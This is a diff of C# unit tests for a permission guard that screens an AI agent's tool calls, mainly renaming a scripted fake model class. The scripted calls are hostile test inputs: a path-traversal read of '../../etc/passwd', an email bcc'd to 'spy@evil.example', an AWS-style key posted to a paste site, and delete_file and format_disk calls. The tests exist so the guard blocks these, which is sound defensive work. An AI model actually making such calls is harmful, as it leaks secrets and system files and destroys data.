@@ -10,14 +10,14 @@ public sealed class ToolPermissionChatClientTests
         response.Messages.SelectMany(m => m.Contents).OfType<FunctionResultContent>();
 
     private static string ResultOf(ChatResponse response, string callId) =>
-        ScriptedToolModel.ResultText(Results(response).Single(r => r.CallId == callId).Result);
+        ScriptedAgentChatClient.DescribeResult(Results(response).Single(r => r.CallId == callId).Result);
 
     [Theory]
     [InlineData(false)]
     [InlineData(true)]
     public async Task DeniedTool_NeverRuns_AndTheModelReceivesRuleAndReason(bool streaming)
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("delete_file", new { path = "/tmp/x" }), o => o.Deny("delete_*"));
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("delete_file", new { path = "/tmp/x" }), o => o.Deny("delete_*"));
         h.Tool("delete_file");
 
         ChatResponse response = await h.AskAsync("clean up", streaming: streaming);
@@ -31,7 +31,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task AllowedTool_Runs_AndTheResultReachesTheModel()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("get_weather", new { city = "Oslo" }));
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("get_weather", new { city = "Oslo" }));
         h.Tool("get_weather", "sunny");
 
         ChatResponse response = await h.AskAsync("weather?");
@@ -44,7 +44,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task StrictMode_DeniesUnknownTools()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("format_disk"), o => { o.Strict = true; o.Allow("get_*"); });
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("format_disk"), o => { o.Strict = true; o.Allow("get_*"); });
         h.Tool("format_disk");
 
         ChatResponse response = await h.AskAsync("go");
@@ -56,7 +56,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task ArgumentConstraint_Violated_DeniesWithoutInvoking()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("read_file", new { path = "../../etc/passwd" }),
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("read_file", new { path = "../../etc/passwd" }),
             o => o.Constrain("read_file", a => a.Require("path").Argument("path", c => c.PathUnder("/srv/data"))));
         h.Tool("read_file");
 
@@ -69,7 +69,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task RequiredAndForbiddenKeys_AreEnforced()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("send_email", new { to = "a@b.example", bcc = "spy@evil.example" }),
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("send_email", new { to = "a@b.example", bcc = "spy@evil.example" }),
             o => o.Constrain("send_email", a => a.Require("to", "subject").Forbid("bcc")));
         h.Tool("send_email");
 
@@ -82,7 +82,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task SecretInArguments_IsDenied()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("post_webpage", new { url = "https://paste.example", content = "key AKIAQ3EGRSTUVWXZ2345" }));
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("post_webpage", new { url = "https://paste.example", content = "key AKIAQ3EGRSTUVWXZ2345" }));
         h.Tool("post_webpage");
 
         ChatResponse response = await h.AskAsync("post");
@@ -94,7 +94,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task PiiInArguments_IsFlaggedAndTheCallRuns()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("send_email", new { to = "jane.doe@example.com", body = "Lunch at noon?" }));
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("send_email", new { to = "jane.doe@example.com", body = "Lunch at noon?" }));
         h.Tool("send_email", "sent");
 
         ChatResponse response = await h.AskAsync("email Jane");
@@ -107,7 +107,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task MalformedArguments_AreDenied()
     {
-        var model = new ScriptedToolModel();
+        var model = new ScriptedAgentChatClient();
         using var h = new ToolHarness(model);
         h.Tool(AIFunctionFactory.Create((int count) => count * 2, "double_it"));
         model.Calls("double_it", new { count = "many" });
@@ -120,7 +120,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task MissingRequiredArgumentOfTheSchema_IsDenied()
     {
-        var model = new ScriptedToolModel().Calls("double_it", new { other = 1 });
+        var model = new ScriptedAgentChatClient().Calls("double_it", new { other = 1 });
         using var h = new ToolHarness(model);
         h.Tool(AIFunctionFactory.Create((int count) => count * 2, "double_it"));
 
@@ -146,13 +146,13 @@ public sealed class ToolPermissionChatClientTests
         ChatResponse response = await client.GetResponseAsync("look", new ChatOptions { Tools = [AIFunctionFactory.Create(() => ran = true, "lookup")] });
 
         ran.Should().BeFalse();
-        ScriptedToolModel.ResultText(Results(response).Single().Result).Should().Contain("SL-TOOL-0013");
+        ScriptedAgentChatClient.DescribeResult(Results(response).Single().Result).Should().Contain("SL-TOOL-0013");
     }
 
     [Fact]
     public async Task TerminateOnDeny_EndsTheLoop()
     {
-        var model = new ScriptedToolModel().Calls("delete_file");
+        var model = new ScriptedAgentChatClient().Calls("delete_file");
         using var h = new ToolHarness(model, o => { o.Deny("delete_file"); o.TerminateOnDeny = true; });
         h.Tool("delete_file");
 
@@ -165,7 +165,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task MonitorOnly_RecordsButDeniesNothing()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("delete_file"), o => { o.Deny("delete_file"); o.MonitorOnly = true; });
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("delete_file"), o => { o.Deny("delete_file"); o.MonitorOnly = true; });
         h.Tool("delete_file");
 
         await h.AskAsync("delete");
@@ -199,7 +199,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task CallerOptions_AreNotChanged()
     {
-        using var h = new ToolHarness(new ScriptedToolModel().Calls("get_weather"));
+        using var h = new ToolHarness(new ScriptedAgentChatClient().Calls("get_weather"));
         h.Tool("get_weather");
         ChatOptions options = h.Options();
         AITool original = options.Tools![0];
@@ -212,7 +212,7 @@ public sealed class ToolPermissionChatClientTests
     [Fact]
     public async Task ParallelCalls_WithConcurrentInvocation_RespectTheBudgetExactly()
     {
-        var model = new ScriptedToolModel { ParallelTask = true };
+        var model = new ScriptedAgentChatClient { ParallelCalls = true };
         for (int i = 0; i < 10; i++)
         {
             model.Calls("fetch", new { id = i });
@@ -223,14 +223,14 @@ public sealed class ToolPermissionChatClientTests
 
         ChatResponse response = await h.AskAsync("fetch all");
 
-        Results(response).Count(r => !ScriptedToolModel.ResultText(r.Result).Contains("SL-TOOL-0006", StringComparison.Ordinal)).Should().Be(3);
-        Results(response).Count(r => ScriptedToolModel.ResultText(r.Result).Contains("SL-TOOL-0006", StringComparison.Ordinal)).Should().Be(7);
+        Results(response).Count(r => !ScriptedAgentChatClient.DescribeResult(r.Result).Contains("SL-TOOL-0006", StringComparison.Ordinal)).Should().Be(3);
+        Results(response).Count(r => ScriptedAgentChatClient.DescribeResult(r.Result).Contains("SL-TOOL-0006", StringComparison.Ordinal)).Should().Be(7);
     }
 
     [Fact]
     public async Task GuardFailure_FailsClosed()
     {
-        var model = new ScriptedToolModel().Calls("get_weather");
+        var model = new ScriptedAgentChatClient().Calls("get_weather");
         using var h = new ToolHarness(model, o => o.ConversationKeySelector = (_, _) => throw new InvalidOperationException("boom"));
         h.Tool("get_weather");
 
